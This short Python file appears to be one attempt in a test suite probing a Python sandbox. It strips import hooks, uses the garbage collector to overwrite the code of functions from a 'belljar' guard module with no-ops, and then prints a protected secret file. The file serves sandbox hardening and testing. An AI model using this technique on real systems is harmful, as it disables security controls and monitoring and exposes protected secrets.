import gc
import sys
import types

from arms import P, attempt


@attempt
def deed():
    sys.meta_path[:] = [f for f in sys.meta_path if isinstance(f, type)]
    for one in gc.get_objects():
        if isinstance(one, types.FunctionType) and "belljar" in one.__code__.co_filename:
            one.__code__ = (lambda *a, **k: None).__code__.replace(
                co_freevars=one.__code__.co_freevars
            )
    print(open(P["secret"]).read())
